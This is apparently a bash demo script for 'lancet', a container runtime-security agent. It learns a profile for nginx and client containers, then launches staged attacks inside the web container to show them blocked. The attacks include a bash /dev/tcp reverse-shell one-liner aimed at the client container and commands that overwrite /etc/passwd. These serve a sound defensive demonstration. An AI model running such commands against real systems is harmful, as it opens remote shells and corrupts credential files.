#!/usr/bin/env bash
# lancet's main job on a fresh Debian 12 host, as root, in a few minutes:
#   1. set up the host and build the release binary;
#   2. start the agent with its dashboard (the URL is printed);
#   3. start a web service (nginx) and a client on the glibc Debian test
#      image, on a podman network made for the demo;
#   4. learn them under traffic for ~20 s;
#   5. promote the workload to protect (a dry run first);
#   6. run a few attacks through `podman exec` (a dropped binary, a reverse
#      shell, a write below /etc, `sh -c id`; then past the shell: a dropped
#      file run directly, the learned curl writing /etc/passwd or connecting
#      to a port it never used) and show each refused, with its alert, while
#      the web server keeps answering the client;
#   7. print the alerts and the network map, and keep running (dashboard
#      live) until Ctrl-C.
# Ctrl-C (or any exit) removes exactly what the demo started: its
# containers and network by name, the agent by pid, its BPF pins and its
# temporary directory.
#
#   ./scripts/demo.sh            # stops at the end and waits for Ctrl-C
#   ./scripts/demo.sh --no-wait  # runs to the end and cleans up (also:
#                                #   LANCET_DEMO_NONINTERACTIVE=1)
# Environment: LANCET_DEMO_PORT (dashboard port, default the first free one
# from 7447), LANCET_DEMO_LEARN (learning seconds, default 20),
# LANCET_DEMO_HOLD (with --no-wait: seconds to keep everything running
# before cleaning up, e.g. to look at the dashboard; default 0).
set -euo pipefail
cd "$(dirname "$0")/.."

no_wait=${LANCET_DEMO_NONINTERACTIVE:-0}
for a in "$@"; do
  case $a in
    --no-wait) no_wait=1 ;;
    -h|--help) sed -n '2,27p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
    *) echo "demo: unknown argument $a (try --help)" >&2; exit 64 ;;
  esac
done
[ "$(id -u)" = 0 ] || { echo "demo: run it as root (BPF, fanotify and podman need it)" >&2; exit 1; }

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
note() { printf '   %s\n' "$*"; }

say "Setting up the host (scripts/setup.sh) and building lancet (release)"
bash scripts/setup.sh
cargo build --release -p lancet --locked
lancet=$PWD/target/release/lancet
"$lancet" doctor >/dev/null || { "$lancet" doctor || true; echo "demo: lancet doctor says monitoring cannot run here" >&2; exit 1; }

image=localhost/lancet-debian:test
tag=$$
web=lancet-demo-web-$tag
client=lancet-demo-client-$tag
net=lancet-demo-net-$tag
pins=/sys/fs/bpf/lancet-demo-$tag
tmp=$(mktemp -d /tmp/lancet-demo.XXXXXX)
agent_pid=
sleeper=
cleaned=0
cleanup() {
  [ "$cleaned" = 1 ] && return
  cleaned=1
  trap - INT TERM EXIT
  [ -z "$sleeper" ] || kill "$sleeper" 2>/dev/null || true
  say "Cleaning up what the demo started"
  podman rm -f -t 0 "$web" "$client" >/dev/null 2>&1 || true
  podman network rm -f "$net" >/dev/null 2>&1 || true
  if [ -n "$agent_pid" ] && kill -0 "$agent_pid" 2>/dev/null; then
    kill -TERM "$agent_pid" 2>/dev/null || true
    for _ in $(seq 100); do kill -0 "$agent_pid" 2>/dev/null || break; sleep 0.1; done
    kill -KILL "$agent_pid" 2>/dev/null || true
    wait "$agent_pid" 2>/dev/null || true
  fi
  # The kernel keeps pinned rules after the agent is gone: lift them.
  rm -rf "$pins"
  rm -rf --one-file-system "$tmp"
  note "removed containers $web $client, network $net, agent pid ${agent_pid:-none}, $pins, $tmp"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

port=${LANCET_DEMO_PORT:-}
if [ -z "$port" ]; then
  for p in $(seq 7447 7547); do
    ss -Hltn "sport = :$p" | grep -q . || { port=$p; break; }
  done
fi
mkdir -p "$tmp/state" "$tmp/policies" "$tmp/hooks.d" "$tmp/run"
: > "$tmp/config.yaml"   # our own (empty) config: the host's /etc/lancet/lancet.yaml plays no part
sock=$tmp/run/lancet.sock
alerts=$tmp/alerts.jsonl
api=(--api "$sock")

say "Starting the agent: lancet run (learn mode), dashboard on 127.0.0.1:$port"
LANCET_LOG=info "$lancet" run --mode learn --min-learning 1h --quiet-period 1h \
  --state-dir "$tmp/state" --policy-dir "$tmp/policies" --alerts "$alerts" \
  --config "$tmp/config.yaml" --pin-dir "$pins" --socket "$sock" \
  --listen "127.0.0.1:$port" >/dev/null 2>"$tmp/agent.log" &
agent_pid=$!
for _ in $(seq 600); do
  grep -q "lancet is tracing" "$tmp/agent.log" 2>/dev/null && break
  kill -0 "$agent_pid" 2>/dev/null || { cat "$tmp/agent.log" >&2; echo "demo: the agent stopped" >&2; exit 1; }
  sleep 0.1
done
grep -q "lancet is tracing" "$tmp/agent.log" || { echo "demo: the agent did not start within 60 s" >&2; exit 1; }
note "agent pid $agent_pid, state in $tmp/state, log $tmp/agent.log"
note "dashboard: http://127.0.0.1:$port/   (the map: http://127.0.0.1:$port/ui/map)"
# The OCI hook hands each container to the agent before its entrypoint runs
# (installed in the demo's own hooks directory, used with --hooks-dir).
"$lancet" hook install --dir "$tmp/hooks.d" "${api[@]}" >/dev/null
pod() { podman --hooks-dir "$tmp/hooks.d" "$@"; }

say "Starting a web service and a client ($image) on network $net"
podman network create "$net" >/dev/null
pod run -d --name "$web" --network "$net" "$image" >/dev/null
# The client asks the web server for its page every second.
pod run -d --name "$client" --network "$net" "$image" \
  bash -c "while :; do curl -s -o /dev/null http://$web/; sleep 1; done" >/dev/null
client_ip=$(podman inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' "$client")
note "web: $web (nginx on port 80)   client: $client ($client_ip)"
note "both run one image, so they are one workload with one profile"

# What the client gets from the web server now (HTTP status).
status() { podman exec "$client" curl -s -o /dev/null -m 5 -w '%{http_code}' "http://$web/" 2>/dev/null || echo "failed"; }
health() { podman exec "$web" sh -c 'curl -fsS -o /dev/null http://127.0.0.1/'; }

learn=${LANCET_DEMO_LEARN:-20}
say "Learning for ${learn} s under traffic (and an operator's health check)"
end=$((SECONDS + learn))
n=0
while [ "$SECONDS" -lt "$end" ]; do
  s=$(status); health && h=ok || h=failed
  [ $((n % 5)) = 0 ] && note "client -> web: HTTP $s   health check: $h   $((end - SECONDS)) s left"
  n=$((n + 1))
  sleep 1
done
"$lancet" profile show "$web" "${api[@]}" | sed -n '1,40p' | sed 's/^/   | /'
note "(the first 40 lines of the learned profile)"

say "Promoting the workload to protect: first a dry run"
"$lancet" profile promote "$web" --to protect --dry-run "${api[@]}" 2>&1 | sed 's/^/   | /' || true
"$lancet" profile promote "$web" --to protect "${api[@]}" 2>&1 | sed 's/^/   | /'
web_id=$(podman inspect -f '{{.Id}}' "$web")
for _ in $(seq 150); do
  "$lancet" status "${api[@]}" 2>/dev/null | grep -q "${web_id:0:12}" && break
  sleep 0.1
done
note "lancet status: the containers now guarded (the full report is JSON)"
"$lancet" status "${api[@]}" | sed -n '/^  "guarded": \[/,/^  \]/p' | sed 's/^/   | /'
note "client -> web: HTTP $(status); the learned health check: $(health && echo runs || echo FAILED)"

# A string field of an alert line (JSON), without a JSON tool.
field() { sed -nE "s/.*\"${1//./\\.}\":\"(([^\"\\\\]|\\\\.)*)\".*/\\1/p" <<<"$2"; }

# Runs one attack inside the web container, then shows how it ended, the
# alerts it raised and what the client gets from the web server.
attack() {
  local what=$1; shift
  local before out rc
  say "Attack: $what"
  note "\$ podman exec $web ${*@Q}"
  before=$(wc -l < "$alerts")
  set +e
  out=$(podman exec "$web" "$@" 2>&1)
  rc=$?
  set -e
  [ -z "$out" ] || printf '%s\n' "$out" | sed -n '1,5s/^/   > /p'
  sleep 1.5
  local new
  new=$(tail -n +"$((before + 1))" "$alerts")
  local how="failed, for another reason: see its output"
  case $rc:$out in
    0:*) how="it RAN" ;;
    137:*|*Killed*) how="killed" ;;
    *"not permitted"*|*"ermission denied"*|*"Read-only file system"*) how="refused" ;;
    *) grep -q '"lancet.enforced":true' <<<"$new" && how="refused by lancet: see the alert" ;;
  esac
  note "exit status $rc ($how)"
  [ -z "$new" ] || while IFS= read -r line; do
    printf '   alert: %s [%s, action %s, enforced %s]\n' "$(field rule "$line")" "$(field priority "$line")" \
      "$(field lancet.action "$line")" "$(sed -nE 's/.*"lancet\.enforced":(true|false).*/\1/p' <<<"$line")"
    printf '          %.160s\n' "$(field output "$line" | sed 's/\\"/"/g')"
  done <<<"$new"
  note "client -> web: HTTP $(status)"
}

attack "a dropped binary (copy ls to /tmp and run it)" bash -c 'cp /bin/ls /tmp/x && /tmp/x'
attack "a reverse shell to the client container" bash -c "bash -i >& /dev/tcp/$client_ip/4444 0>&1"
attack "a write below /etc" bash -c 'echo x >> /etc/passwd'
attack "a shell running code it never ran while learning" sh -c id
say "Past the shell: a dropped file run directly, learned programs used for harm"
note "(an attacker who gets code running without a new shell meets the next layers)"
podman cp /bin/ls "$web:/tmp/dropped" || note "(podman cp failed)"
attack "a file dropped into /tmp (podman cp from the host), run" /tmp/dropped
attack "the learned curl writing below /etc" curl -sS -o /etc/passwd http://127.0.0.1/
attack "the learned curl connecting to a port it never used" curl -sS -m 3 "http://$client_ip:4444/"

say "The learned health check still runs"
note "\$ podman exec $web sh -c 'curl -fsS -o /dev/null http://127.0.0.1/'"
note "$(health && echo 'exit status 0 (allowed: the profile learned this shell with this code)' || echo 'FAILED')"

say "Alerts: lancet alerts"
"$lancet" alerts --since 10m "${api[@]}" | sed 's/^/   | /'
say "Who talks to whom: lancet map"
"$lancet" map --since 1h "${api[@]}" | sed 's/^/   | /'

if [ "$no_wait" = 1 ]; then
  hold=${LANCET_DEMO_HOLD:-0}
  if [ "$hold" -gt 0 ]; then
    say "Holding ${hold} s: dashboard at http://127.0.0.1:$port/"
    sleep "$hold"
  fi
  exit 0
fi
say "Running. Dashboard: http://127.0.0.1:$port/   Press Ctrl-C to stop and clean up."
while :; do sleep 3600 & sleeper=$!; wait "$sleeper"; done
